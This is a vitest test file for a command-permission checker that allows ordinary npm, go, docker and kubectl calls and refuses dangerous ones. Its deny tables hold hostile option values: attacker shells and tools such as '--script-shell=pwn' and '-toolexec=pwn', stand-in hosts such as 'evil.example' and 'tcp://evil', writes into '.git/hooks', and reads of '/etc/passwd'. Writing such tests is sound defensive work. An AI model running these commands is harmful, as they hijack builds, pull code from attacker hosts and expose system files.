import { describe, expect, test } from "vitest";
import { authorize } from "../../../src/grant/authorize.ts";
import { programCall } from "../../../src/grant/programs/effects.ts";
import { grantOf } from "../support.ts";

function answer(rules: readonly string[], command: string): string {
  const decision = authorize(grantOf(rules), { tool: "bash", args: { command } });
  return decision.effect === "allow" ? "allow" : `deny: ${decision.reason}`;
}

/** Under a rule for the whole program. */
function underItsRule(command: string, ...more: readonly string[]): string {
  return answer([`Bash(${command.split(" ")[0]} *)`, ...more], command);
}

describe("ordinary use under a rule for the program", () => {
  test.each([
    "npm test",
    "npm test -- --watch=false",
    "npm run build",
    "npm run build -- --mode production",
    "npm run -s lint",
    "npm -w packages/a run build",
    "npm ci",
    "npm ci --ignore-scripts --no-audit",
    "npm install --save-dev vitest",
    "npm i -D typescript@5",
    "npm ls --depth=0 --json",
    "npm view react versions --json",
    "npm outdated",
    "npm config get prefix",
    "npm pkg get version",
    "npm --version",
    "npx vitest run",
    "pnpm test",
    "pnpm -r run build",
    "pnpm run build --mode production",
    "pnpm --filter web build",
    "pnpm lint --fix",
    "pnpm install --frozen-lockfile",
    "yarn",
    "yarn test --watch",
    "yarn run build",
    "yarn add react",
    "bun test",
    "node scripts/x.mjs --in a",
    "node --version",
    "python scripts/x.py --in a",
    "python3 -m pytest -q",
    "pytest -q",
    "pip list",
    "pip list --format=json",
    "pip show requests",
    "pip install -r requirements.txt",
    "uv run x.py",
    "uv sync",
    "uv pip list",
    "ruff check src",
    "ruff check --select E,F --output-format json .",
    "ruff format --check src",
    "mypy src",
    "tsc --noEmit",
    "eslint . --fix",
    "cargo test",
    "cargo build --release",
    "cargo tree -i serde",
    "cargo fmt --check",
    "go test ./...",
    "go test -race -run TestX -count=1 ./pkg/...",
    "go build ./...",
    "go vet ./...",
    "go mod tidy",
    "go list -m -json all",
    "go version",
    "make build",
    "cmake --build build",
    "gcc --version",
    "docker ps -a",
    "docker logs -f --tail 100 web",
    "docker images --format '{{.Repository}}'",
    "docker compose ps",
    "docker compose up -d",
    "docker run --rm -it alpine sh",
    "kubectl get pods -n x -o wide",
    "kubectl -n x get pods -o=jsonpath='{.items[*].metadata.name}'",
    "kubectl get pods -A --watch",
    "kubectl describe pod web",
    "kubectl logs -f deploy/web --tail=100",
    "kubectl apply -f deploy.yaml",
    "kubectl apply -f -",
    "kubectl rollout status deploy/web",
    "kubectl config current-context",
    "kubectl auth can-i get pods",
    "helm list -A",
    "terraform fmt -check",
    "terraform plan -out=x",
    "terraform version",
    "psk validate .",
    "psk scan --recursive skills --format sarif",
    "psk compose a,b --explain",
  ])("%s", (command) => {
    expect(underItsRule(command)).toBe("allow");
  });

  test("a rule for one script allows the script", () => {
    expect(answer(["Bash(npm test *)"], "npm test -- --watch=false")).toBe("allow");
    expect(answer(["Bash(npm run lint)"], "npm run lint")).toBe("allow");
    expect(answer(["Bash(npm run lint)"], "npm run build")).toMatch(/^deny/);
  });
});

describe("npm takes settings anywhere before `--`", () => {
  test.each([
    "npm test --script-shell=pwn",
    "npm test --script-shell pwn",
    "npm test --script-sh=pwn",
    "npm --script-shell=pwn test",
    "npm test --json --script-shell=pwn -- --watch=false",
    "npm run build --node-options=--require=./pwn.js",
    "npm test --userconfig=x",
    "npm test --globalconfig=x",
    "npm ci --registry=https://evil.example",
    "npm ci -reg https://evil.example",
    "npm install --git=./pwn x",
    "npm test --tag=--script-shell=pwn",
    "npm test --loglevel --script-shell=pwn",
    "npm test -w --script-shell=pwn",
    "npm --json=exec ls pwn",
    "npm view x --viewer=pwn",
    "npm ls --cache=.git",
    "npm pack --pack-destination=.git",
    "npm test --coverage",
    "npm config set script-shell pwn",
    "npm set script-shell pwn",
    "npm docs x",
    "npm edit x",
    "npm nosuch",
    "npm runn build",
    "pnpm --script-shell=pwn test",
    "pnpm test --script-shell=pwn",
    "pnpm -rF --script-shell=pwn test",
    "pnpm --config.script-shell=pwn test",
    "yarn test --use-yarnrc ./evil",
    "yarn --use-yarnrc evil test",
    "yarn run test --cwd /tmp/evil -- x",
  ])("refuses %s", (command) => {
    expect(underItsRule(command)).toMatch(/^deny/);
  });

  test("it says where the options of a script belong", () => {
    expect(underItsRule("npm test --coverage")).toContain("stands behind `--`");
  });
});

describe("options that run, write or load settings", () => {
  test.each([
    "go build -toolexec=pwn ./...",
    "go build -toolexec pwn ./...",
    "go build --toolexec=pwn ./...",
    "go vet -vettool=pwn ./...",
    "go vet -vettool pwn",
    "go test -exec=pwn ./...",
    "go test ./... -exec pwn",
    "go list -toolexec=pwn ./...",
    "go build -overlay=x ./...",
    "go build -ldflags='-extld=pwn' ./...",
    "go build -o .git/hooks/x .",
    "go test -coverprofile=.git/config ./...",
    "go env -w GOFLAGS=-toolexec=pwn",
    "go nosuch",
    "gofmt -w main.go",
    "cargo tree --config build.rustc=pwn",
    "cargo tree -i --config=build.rustc=pwn",
    "cargo tree -p --config build.rustc=pwn",
    "cargo tree -Z x",
    "cargo nosuch",
    "pip list --log .git/config",
    "pip list --log=x",
    "pip list --python pwn",
    "pip list --pyth=pwn",
    "pip --python pwn list",
    "pip list --outdated",
    "pip config set x y",
    "pip config edit --editor pwn",
    "ruff check --fix src",
    "ruff check -o .git/config src",
    "ruff server",
    "docker -H tcp://evil ps",
    "docker --host=tcp://evil ps",
    "docker --config x ps",
    "docker -c other ps",
    "docker save -o .git/x image",
    "docker nosuch",
    "kubectl --kubeconfig=evil get pods",
    "kubectl get pods --kubeconfig evil",
    "kubectl get pods -s https://evil.example",
    "kubectl get pods --token=x",
    "kubectl get pods --cache-dir=.git",
    "kubectl create deploy x --edit",
    "kubectl cluster-info dump --output-directory=.git",
    "kubectl nosuch",
    "kubectl config set-credentials x --exec-command=pwn",
    "helm --kubeconfig x list",
    "helm nosuch",
    "terraform -chdir=/tmp/evil fmt",
    "terraform fmt .git",
    "psk scan . -o .git/config",
    "psk scan . --report sarif=.git/config",
    "psk scan . --report sarif=out.sarif",
    "psk export x --output x.zip",
    "psk validate --fix .",
    "psk nosuch",
  ])("refuses %s", (command) => {
    expect(underItsRule(command)).toMatch(/^deny/);
  });

  test("a file is written where Write allows it", () => {
    const rules = ["Write(out/**)"];
    expect(underItsRule("psk scan . --report sarif=out/x.sarif", ...rules)).toBe("allow");
    expect(underItsRule("go test -coverprofile=out/c ./...", ...rules)).toBe("allow");
    expect(underItsRule("docker save -o out/x.tar image", ...rules)).toBe("allow");
  });

  test("a file is read where Read allows it", () => {
    const rules = ["Read(src/**)"];
    expect(underItsRule("kubectl get pods -o wide", ...rules)).toBe("allow");
    expect(underItsRule("kubectl get pods -o custom-columns-file=/etc/passwd", ...rules)).toMatch(
      /^deny/,
    );
    expect(underItsRule("kubectl get pods -o=go-template-file=/etc/passwd", ...rules)).toMatch(
      /^deny/,
    );
    expect(underItsRule("kubectl apply -f src/x.yaml", ...rules)).toBe("allow");
    expect(underItsRule("kubectl apply -f=/etc/passwd", ...rules)).toMatch(/^deny/);
    expect(underItsRule("kubectl patch x --patch-file /etc/passwd", ...rules)).toMatch(/^deny/);
  });

  test("what is named is allowed", () => {
    expect(answer(["Bash(npm test --script-shell=*)"], "npm test --script-shell=zsh")).toBe(
      "allow",
    );
    expect(answer(["Bash(docker -H * ps)"], "docker -H tcp://h ps")).toBe("allow");
    expect(answer(["Bash(ruff check --fix *)"], "ruff check --fix src")).toBe("allow");
  });
});

describe("what a call is known to do", () => {
  test.each([
    ["node x.js", true],
    ["node --version", false],
    ["npm test", true],
    ["npm ls", false],
    ["python3 -V", false],
    ["make", true],
    ["cargo tree", false],
  ])("%s: anything is %s", (line, anything) => {
    expect(programCall(line.split(" "))).toMatchObject({ known: true, anything });
  });
});
